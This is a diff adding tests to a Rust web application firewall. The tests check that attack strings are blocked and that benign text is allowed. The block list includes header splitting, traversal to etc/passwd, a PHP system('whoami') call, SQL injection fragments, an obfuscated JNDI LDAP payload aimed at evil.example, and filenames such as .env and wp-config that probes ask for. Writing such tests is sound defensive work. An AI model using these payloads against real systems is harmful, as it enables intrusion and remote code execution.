@@ -1722,10 +1722,57 @@ mod tests {
             (protocol_ids::SPLITTING, "\\r\\nSet-Cookie: x=y"),
             (protocol_ids::SPLITTING, "de\nX-Injected: 1"),
             (930121, "..%uF025..%uF025..%uF025etc/passwd"),
+            (941200, "<:vmlframe src="),
+            (933160, "(\"system  \")(\"whoami\")"),
+            (942320, "unistr(password)::int"),
+            (942320, "password::int"),
+            (942320, "function(foo)::double precision"),
+            (942360, "` AS `edit_user_id` from"),
+            (942360, "1234 AS \"foobar\" FROM t"),
+            (932175, "alias +g+ a=b"),
+            (932175, "alias -gmr a=b"),
+            (
+                944150,
+                "&#x24;&#0000000000000000000000000123;jndi:ldap://evil.example/w}",
+            ),
         ] {
             let v = query(&waf, value);
             assert_eq!(v.action, Action::Block, "{value:?}: {v:?}");
             assert!(v.rules.contains(&rule), "{value:?} not by {rule}: {v:?}");
+        }
+    }
+
+    #[test]
+    fn uploads_named_like_server_configuration_are_blocked() {
+        let waf = Waf::new(WafConfig::default());
+        let named = |name: &str| {
+            waf.inspect(&WafRequest::new(
+                "GET",
+                "/get",
+                vec![
+                    ("Host".to_string(), "trust.example".to_string()),
+                    ("X-Filename".to_string(), name.to_string()),
+                ],
+                Vec::new(),
+            ))
+        };
+        for name in [
+            "wp-config_php.txt",
+            "config.yml ",
+            ".htaccess",
+            "uploads/.env",
+        ] {
+            let v = named(name);
+            assert!(v.rules.contains(&932180), "{name:?}: {v:?}");
+        }
+        // Any name that starts with `wp-config` is one (its backups and copies are what probes
+        // ask for); a name merely containing "config" is not.
+        for name in [
+            "invoice-2026-10.pdf",
+            "config-notes.txt",
+            "my wp config.pdf ",
+        ] {
+            assert_eq!(named(name).action, Action::Allow, "{name:?}");
         }
     }
 
@@ -1759,6 +1806,13 @@ mod tests {
             "${amount} appears instead of the amount",
             "sqrt(16) = 4",
             "Please check the logs\nand list the affected users",
+            // Near the forms added from the CRS regression cases: an alias in prose, a role
+            // "as admin from home", Markdown code spans side by side, language type names.
+            "alias names: Jana, J. Müller",
+            "she works as admin from home",
+            "rename `old` as `new` from the next release",
+            "Math::BigInt overflow in the Perl export",
+            "Nokogiri::XML::Text in the Ruby client",
         ] {
             let v = query(&waf, value);
             assert_eq!(v.action, Action::Allow, "{value:?}: {v:?}");
